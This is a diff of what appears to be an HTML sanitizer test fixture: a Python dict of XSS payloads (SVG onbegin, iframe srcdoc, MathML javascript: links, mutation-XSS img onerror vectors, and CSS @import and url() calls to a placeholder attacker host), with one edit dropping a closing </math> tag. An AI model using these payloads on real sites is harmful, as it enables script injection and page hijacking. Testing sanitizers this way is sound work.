@@ -30,7 +30,7 @@ _ELEMENTS: Final = {
     "svg_animate": f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
     "foreign_object": f"<svg><foreignObject><iframe srcdoc='<script>parent.{_RUN}</script>'></foreignObject></svg>",
     "mathml_link": f'<math><maction actiontype="statusline" xlink:href="javascript:{_RUN}">x</maction></math>',
-    "mathml_style": f"<math><mtext><table><mglyph><style><img src onerror={_RUN}></style></mglyph></table></mtext></math>",
+    "mathml_style": f"<math><mtext><table><mglyph><style><img src onerror={_RUN}></style></mglyph></table></mtext>",
     "mathml_annotation": f"<math><annotation-xml encoding='text/html'><img src onerror={_RUN}></annotation-xml></math>",
     "style": f"<style>@import '{_EVIL}'; body {{ display: none }}</style>",
     "style_attribute": f'<p style="position:fixed;inset:0;background:url({_EVIL})">over everything</p>',
